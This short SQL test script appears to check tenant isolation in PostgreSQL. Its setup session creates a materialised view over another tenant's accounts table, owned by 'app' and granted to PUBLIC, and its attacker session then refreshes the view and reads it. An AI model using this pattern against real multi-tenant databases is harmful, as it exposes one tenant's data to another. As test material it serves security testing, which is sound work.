-- A materialised view of the operator's over another tenant's table, refreshed by the attacker.
-- @session setup
CREATE MATERIALIZED VIEW public.digest AS SELECT owner FROM tenant_beta.accounts WITH NO DATA;
ALTER MATERIALIZED VIEW public.digest OWNER TO app;
GRANT ALL ON public.digest TO PUBLIC;
-- @session attacker
REFRESH MATERIALIZED VIEW public.digest;
SELECT * FROM public.digest;
